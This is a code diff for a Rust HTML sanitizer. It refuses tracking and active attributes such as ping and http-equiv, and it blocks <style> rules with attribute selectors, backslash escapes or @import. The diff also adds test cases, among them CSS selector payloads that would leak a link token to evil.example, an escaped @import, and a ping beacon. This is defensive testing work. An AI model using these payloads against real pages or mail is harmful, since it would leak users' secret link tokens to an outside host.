@@ -44,6 +44,8 @@ const REFUSED: [&str; 34] = [
 ];
 /// Elements whose content is no markup.
 const RAW: [&str; 2] = ["style", "title"];
+/// Attributes that do something, or that tell somebody which link was followed.
+const REFUSED_ATTRIBUTES: [&str; 4] = ["attributionsrc", "http-equiv", "ping", "srcdoc"];
 /// Addresses that run something.
 const REFUSED_SCHEMES: [&str; 3] = ["javascript:", "vbscript:", "data:"];
 
@@ -159,7 +161,7 @@ impl<'a> Reader<'a> {
 
     fn attribute(&mut self, element: &str) -> Result<(), Fault> {
         let name = self.word(|character| character.is_ascii_alphanumeric() || "-_:.".contains(character)).to_ascii_lowercase();
-        if name.is_empty() || name.starts_with("on") || name == "http-equiv" || name == "srcdoc" {
+        if name.is_empty() || name.starts_with("on") || REFUSED_ATTRIBUTES.contains(&name.as_str()) {
             return Err(self.fault(format!("an attribute of <{element}> cannot be used: {name}")));
         }
         if !self.skip("=") {
@@ -198,6 +200,11 @@ impl<'a> Reader<'a> {
         let length = rest.find('<').unwrap_or(rest.len());
         if !starts_with(&rest[length..], &format!("</{name}>")) || self.has_link(&rest[..length]) {
             return Err(self.fault(format!("<{name}> must contain neither tags nor the link, and be closed")));
+        }
+        // A rule that chooses by attributes could load something for what the link contains, and a style from elsewhere could have such rules.
+        let content = rest[..length].to_ascii_lowercase();
+        if name == "style" && (content.contains(['[', '\\']) || content.contains("@import")) {
+            return Err(self.fault("<style> must contain neither `[` nor `\\` nor @import"));
         }
         self.position += length;
         Ok(())
@@ -264,6 +271,10 @@ mod tests {
             "<td background=\"LINK\">",
             "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
             "<p onclick=\"x\">",
+            "<a href=\"LINK\" ping=\"https://evil.example/\">x</a>",
+            "<style>a[href*=\"token=A\"] { background: url(https://evil.example/A) }</style>LINK",
+            "<style>@Import url(https://evil.example/style.css);</style>LINK",
+            "<style>@\\69mport url(https://evil.example/style.css);</style>LINK",
             "<a href=\" java script:alert(1)\">x</a>",
             "</p title=\"LINK\">",
             "<p",
